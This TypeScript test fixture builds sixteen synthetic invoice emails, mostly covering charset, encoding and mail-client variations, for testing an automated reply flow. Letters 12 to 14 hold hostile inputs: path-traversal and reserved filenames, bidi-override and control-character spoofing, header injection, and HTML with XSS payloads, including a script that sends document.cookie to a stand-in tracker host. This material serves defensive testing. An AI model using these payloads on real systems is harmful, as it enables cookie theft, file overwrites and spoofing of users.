// The sixteen invoices that deserve a reply; the seventeenth is make-large.ts. At most three a sender, so that the
// flow's own limit (three replies per sender and hour) never bites.
import { bot, headersOf, letter } from './letter.ts'
import type { Letter } from './letter.ts'
import {
  continuedName,
  extendedName,
  file,
  inlineImage,
  message,
  multipart,
  nested,
  text,
  words,
} from './mime.ts'
import { makePdf } from './pdf.ts'
import { logo } from './logo.ts'

const ada = 'Ada Lovelace <ada@contoso.example>'
const grace = 'Grace Hopper <grace@contoso.example>'
const firstId = '<CA+a1101.lovelace@contoso.example>'

/** An invoice as a PDF: number, what for, how much. */
export function invoicePdf(number: string, what: string, amount: string): Uint8Array {
  return makePdf([
    `INVOICE ${number}`,
    '',
    `For: ${what}`,
    `Amount due: ${amount}`,
    'Payable within 14 days.',
  ])
}

const insideContoso: Letter[] = [
  letter(
    '01-invoice-from-outlook',
    'reply',
    {
      from: ada,
      subject: 'Invoice 2026-1101: analytical engine, October',
      at: [2, '09:12'],
      id: firstId,
      more: [
        'X-Mailer: Microsoft Outlook 16.0',
        'Thread-Index: AdxK0a1b2c3d4e5f==',
        'Accept-Language: en-GB',
      ],
    },
    multipart('mixed', '_004_DB9PR01MB1101_', [
      multipart('alternative', '_000_DB9PR01MB1101_', [
        text('Hello,\n\nplease find invoice 2026-1101 attached.\n\nAda\n'),
        text(
          '<html><body><p>Hello,</p><p>please find invoice <b>2026-1101</b> attached.</p><p>Ada</p></body></html>',
          {
            type: 'text/html',
          },
        ),
      ]),
      file(invoicePdf('2026-1101', 'Analytical engine, October', 'EUR 1,250.00'), 'Invoice-2026-1101.pdf'),
    ]),
  ),
  letter(
    '02-rechnung-utf8-q-subject',
    'reply',
    {
      from: ada,
      subject: words('Rechnung 88-2026: Büromaterial für Zürich', 'utf-8', 'Q'),
      at: [3, '14:40'],
    },
    multipart('mixed', 'b-0202', [
      text('Guten Tag,\n\nanbei die Rechnung für das Büromaterial.\n\nViele Grüße\nAda\n'),
      file(
        invoicePdf('88-2026', 'Bueromaterial', 'EUR 84.90'),
        extendedName('Rechnung Büromaterial Zürich.pdf'),
      ),
    ]),
  ),
  letter(
    '03-corrected-invoice-in-thread',
    'reply',
    {
      from: ada,
      subject: 'RE: Invoice 2026-1101: analytical engine, October',
      at: [4, '08:03'],
      inReplyTo: firstId,
      references: firstId,
    },
    multipart('mixed', 'b-0303', [
      text('The VAT was missing. Here is the corrected one.\n\n> please find invoice 2026-1101 attached.\n'),
      file(invoicePdf('2026-1101a', 'Analytical engine, October', 'EUR 1,487.50'), 'Invoice-2026-1101a.pdf'),
    ]),
  ),
  letter(
    '04-invoice-base64-text',
    'reply',
    { from: grace, subject: 'Invoice 7, compiler maintenance', at: [5, '17:55'], zone: '-0500' },
    multipart('mixed', 'b-0404', [
      text('One compiler, maintained. See attached.\n', { encoding: 'base64' }),
      file(invoicePdf('7', 'Compiler maintenance', 'USD 900.00'), 'invoice7.PDF'),
    ]),
  ),
  letter(
    '05-forward-with-message-inside',
    'reply',
    { from: grace, subject: 'Fwd: Invoice 5521 (Hopper Shipping)', at: [6, '11:20'] },
    multipart('mixed', 'b-0505', [
      text('This came to me; it is for you.\n'),
      nested(
        message(
          headersOf({
            from: 'Hopper Shipping <post@hopper-shipping.example>',
            to: 'grace@contoso.example',
            subject: 'Invoice 5521',
            at: [5, '10:00'],
          }),
          multipart('mixed', 'inner-0505', [
            text('Dear Ms Hopper, our invoice.\n'),
            file(invoicePdf('5521-INNER', 'Freight, copy inside', 'EUR 410.00'), 'inner-5521.pdf'),
          ]),
        ),
      ),
      file(invoicePdf('5521', 'Freight', 'EUR 410.00'), 'Invoice 5521.pdf'),
    ]),
  ),
  letter(
    '06-rechnung-windows-1252',
    'reply',
    { from: grace, subject: words('Rechnung 4/2026 über 120 €', 'windows-1252', 'Q'), at: [9, '07:31'] },
    multipart('mixed', 'b-0606', [
      text('Betrag: 120,00 €\nEs grüßt – wie immer – „Grace“\n', {
        charset: 'windows-1252',
        encoding: '8bit',
      }),
      file(invoicePdf('4/2026', 'Beratung', 'EUR 120.00'), 'rechnung-4.pdf'),
    ]),
  ),
]

const fromOutside: Letter[] = [
  letter(
    '07-invoice-from-apple-mail',
    'reply',
    {
      from: 'Nordwind Energie <billing@nordwind.example>',
      subject: 'Invoice NW-20931',
      at: [10, '06:02'],
      more: ['X-Mailer: Apple Mail (2.3774.600.62)', 'X-Universally-Unique-Identifier: 7B6C1C0E-0931'],
    },
    multipart('mixed', 'Apple-Mail=_0931', [
      multipart('alternative', 'Apple-Mail=_0932', [
        text('Your October electricity.\n', { encoding: '7bit' }),
        multipart('related', 'Apple-Mail=_0933', [
          text(
            '<html><body><img src="cid:logo-0931@nordwind.example"><p>Your October electricity.</p></body></html>',
            {
              type: 'text/html',
            },
          ),
          inlineImage(logo, 'logo-0931@nordwind.example', 'logo.png'),
        ]),
      ]),
      file(invoicePdf('NW-20931', 'Electricity, October', 'EUR 2,310.77'), 'NW-20931.pdf'),
    ]),
  ),
  letter(
    '08-rechnung-iso-8859-15',
    'reply',
    {
      from: `${words('Bergmann Verlag, Buchhaltung', 'iso-8859-15', 'Q')} <rechnungen@bergmann-verlag.example>`,
      subject: words('Rechnung RE-2026-0417: Fachbücher (49,80 €)', 'iso-8859-15', 'Q'),
      at: [10, '10:10'],
    },
    multipart('mixed', 'b-0808', [
      text('Sehr geehrte Damen und Herren,\n\nRechnung über 49,80 € anbei.\n', { charset: 'iso-8859-15' }),
      file(invoicePdf('RE-2026-0417', 'Fachbuecher', 'EUR 49.80'), 'RE-2026-0417.pdf'),
    ]),
  ),
  letter(
    '09-invoice-iso-2022-jp',
    'reply',
    {
      from: `${words('桜電機 経理部', 'iso-2022-jp')} <accounts@sakura-denki.example>`,
      subject: words('請求書 Invoice SD-118 の送付', 'iso-2022-jp'),
      at: [11, '09:00'],
      zone: '+0900',
    },
    multipart('mixed', 'b-0909', [
      text('お世話になっております。\n請求書をお送りいたします。\n', {
        charset: 'iso-2022-jp',
        encoding: '7bit',
      }),
      file(invoicePdf('SD-118', 'Relays', 'JPY 118,000'), extendedName('請求書SD-118.pdf')),
    ]),
  ),
  letter(
    '10-invoice-koi8-r',
    'reply',
    {
      from: `${words('Северный склад', 'koi8-r')} <buh@severnyi-sklad.example>`,
      subject: words('Счёт (Invoice) 311 за хранение', 'koi8-r'),
      at: [12, '13:45'],
      zone: '+0300',
    },
    multipart('mixed', 'b-1010', [
      text('Добрый день!\nСчёт во вложении.\n', { charset: 'koi8-r', encoding: '8bit' }),
      file(invoicePdf('311', 'Storage', 'EUR 311.00'), extendedName('Счёт 311.pdf')),
    ]),
  ),
  letter(
    '11-invoice-utf8-base64-emoji',
    'reply',
    {
      from: `${words('Atelier Lumière')} <factures@atelier-lumiere.example>`,
      subject: words('🧾 Facture / Invoice FL-0093 – merci !'),
      at: [13, '16:16'],
    },
    multipart('mixed', 'b-1111', [
      text('Bonjour,\n\nvoici la facture FL-0093. 💡\n', { encoding: 'base64' }),
      file(invoicePdf('FL-0093', 'Lamps', 'EUR 730.00'), extendedName('Facture 🧾 FL-0093.pdf')),
    ]),
  ),
  letter(
    '12-hostile-name-path',
    'reply',
    { from: 'Paperclip Ltd <mallory@paperclip.example>', subject: 'Invoice 666 overdue', at: [14, '03:33'] },
    multipart('mixed', 'b-1212', [
      text('Open at once.\n', { encoding: '7bit' }),
      file(invoicePdf('666', 'Paperclips', 'EUR 6.66'), '../../etc/passwd.pdf'),
      file(invoicePdf('667', 'Paperclips', 'EUR 6.67'), {
        disposition: 'filename="C:\\\\Windows\\\\win.ini.pdf"',
      }),
      file(invoicePdf('668', 'Paperclips', 'EUR 6.68'), { disposition: 'filename="CON.pdf"' }),
    ]),
  ),
  letter(
    '13-hostile-name-bidi-and-control',
    'reply',
    {
      from: 'Sternfahrt <cartonfrei@sternfahrt.example>',
      subject: `Rechnung 9 ${words('\u001b[31mrot\u001b[0m \u202etxt.exe')}`,
      at: [15, '22:05'],
    },
    multipart('mixed', 'b-1313', [
      text('Drei Dateien mit schwierigen Namen.\n', { encoding: '7bit' }),
      file(invoicePdf('9a', 'Bidi', 'EUR 9.01'), extendedName('Rechnung\u202Egpj.pdf')),
      file(
        invoicePdf('9b', 'Control', 'EUR 9.02'),
        extendedName('a\u0000b\u0007\u001b]0;title\u0007\r\nX: y.pdf'),
      ),
      file(invoicePdf('9c', 'Long', 'EUR 9.03'), continuedName(`${'sehr-lang-'.repeat(35)}.pdf`)),
    ]),
  ),
  letter(
    '14-html-only-with-script',
    'reply',
    {
      from: 'Kupferkessel Office <office@kupferkessel.example>',
      subject: 'Invoice KK-55 <script>alert(1)</script> {{from}}',
      at: [16, '12:00'],
    },
    multipart('mixed', 'b-1414', [
      text(
        '<html><head><script>fetch("http://tracker.example/"+document.cookie)</script></head><body onload="go()">' +
          '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">pay</a><p>Kettle, 55 litres</p></body></html>',
        { type: 'text/html' },
      ),
      file(invoicePdf('KK-55', 'Kettle', 'EUR 555.00'), 'KK-55.pdf'),
    ]),
  ),
  letter(
    '15-long-headers-unknown-charset',
    'reply',
    {
      from: 'Lichtwerk NOC <noc@lichtwerk.example>',
      subject: 'INVOICE LW-2026/77',
      at: [17, '19:19'],
      references: Array.from({ length: 80 }, (_, n) => `<ticket.${n}.77@lichtwerk.example>`).join(' '),
      more: [
        ...Array.from(
          { length: 24 },
          (_, n) =>
            `Received: from hop${n}.lichtwerk.example by hop${n + 1}.lichtwerk.example with ESMTP id q${n}; Tue, 17 Nov 2026 19:18:00 +0100`,
        ),
        `X-Lichtwerk-Trace: ${'0123456789abcdef'.repeat(400)}`,
      ],
    },
    multipart('mixed', 'b-1515', [
      text('Fibre lease, Q4. Grüße aus dem NOC.\n', { label: 'x-unknown-99', encoding: '8bit' }),
      file(invoicePdf('LW-2026/77', 'Fibre lease, Q4', 'EUR 4,000.00'), 'LW-2026_77.pdf'),
    ]),
  ),
  letter(
    '16-rechnung-reply-from-outside',
    'reply',
    {
      from: '"Kasse, Drei Eichen" <kasse@drei-eichen.example>',
      subject: 'AW: Rechnung 1203',
      at: [18, '15:30'],
      inReplyTo: `<1203.question.${bot}>`,
      references: `<1203.first@drei-eichen.example> <1203.question.${bot}>`,
    },
    multipart('mixed', 'b-1616', [
      text('Wie gewünscht beide Blätter und die Tabelle.\n'),
      file(invoicePdf('1203', 'Holz, Blatt 1', 'EUR 1,203.00'), 'Rechnung 1203 (1).pdf'),
      file(invoicePdf('1203', 'Holz, Blatt 2', 'EUR 0.00'), 'Rechnung 1203 (2).pdf'),
      file('pos;menge\r\n1;12\r\n', 'positionen.csv', 'text/csv'),
    ]),
  ),
]

export const answered: readonly Letter[] = [...insideContoso, ...fromOutside]
